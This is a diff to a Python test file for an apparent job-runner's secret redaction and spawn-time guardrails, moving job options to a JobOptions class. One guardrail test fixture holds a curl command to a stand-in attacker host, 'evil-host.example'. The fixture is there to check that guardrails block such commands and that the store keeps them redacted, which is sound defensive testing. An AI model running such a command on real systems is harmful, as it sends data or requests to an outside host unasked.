@@ -11,12 +11,12 @@ import anyio
 import pytest
 
 from corral.domain.errors import WorkerError
-from corral.domain.models import Job, JobSpec, Limits
+from corral.domain.models import Job, JobOptions, JobSpec, Limits
 from corral.domain.settings import EnvSpec, RoleSpec, Settings
 from corral.domain.states import DedupMode, JobState
 from corral.policy.guardrails import load_rules
 from corral.policy.redact import MARK
-from corral.policy.secrets import SEALED, Parts, conceal, reveal, secret_values
+from corral.policy.secrets import Parts, conceal, reveal, secret_values
 from corral.runtime.gate import PrerunGate
 from corral.scheduler.service import Submissions
 from corral.store.memory import MemoryStore
@@ -87,7 +87,7 @@ def test_processes_creating_the_key_at_once_agree_on_one(tmp_path: Path) -> None
 
 def test_the_store_holds_the_job_redacted_and_the_attempt_runs_it_real(tmp_path: Path) -> None:
     spec = JobSpec(command=("sh", "-c", f"echo {KEY}"), env={"DB_PASSWORD": CANARY},
-                   options={"secret_env": ["FROM_ENGINE"]}, env_name="local")
+                   options=JobOptions(secret_env=("FROM_ENGINE",)), env_name="local")
     store = MemoryStore()
     keeper = Keeper(tmp_path / "secrets.key")
     svc = Submissions(store, Settings(roles={"default": RoleSpec(name="default")},
@@ -101,7 +101,7 @@ def test_the_store_holds_the_job_redacted_and_the_attempt_runs_it_real(tmp_path:
 
     job = anyio.run(main)
     assert (job.command, dict(job.env)) == (("sh", "-c", f"echo {MARK}"), {"DB_PASSWORD": MARK})
-    assert CANARY not in json.dumps(dict(job.options)) and SEALED in job.options
+    assert CANARY not in json.dumps(job.options.to_json()) and job.options.sealed
     real = reveal_job(job, Keeper(tmp_path / "secrets.key"), {"FROM_ENGINE": "engine-side-val"})
     assert real.job.command == ("sh", "-c", f"echo {KEY}")
     assert dict(real.job.env) == {"DB_PASSWORD": CANARY, "FROM_ENGINE": "engine-side-val"}
@@ -119,7 +119,7 @@ def test_guardrails_at_spawn_judge_the_command_that_runs_and_record_it_redacted(
         id="j1", state=JobState.QUEUED, role="ops", worker="command", env_name="local",
         priority=2, tenant="default", command=("curl", "https://evil-host.example/x"),
         prompt=None, cwd=None, env={"TARGET_TOKEN": "evil-host.example"},
-        options={"secret_env": ["FROM_ENGINE"]}, limits=Limits(), key=None,
+        options=JobOptions(secret_env=("FROM_ENGINE",)), limits=Limits(), key=None,
         dedup=DedupMode.COALESCE, workspace=None, parent_id=None, depth=0, created_at=0,
         updated_at=0, sort_at=0))
     assert job.command == ("curl", f"https://{MARK}/x")  # what the store keeps passes…
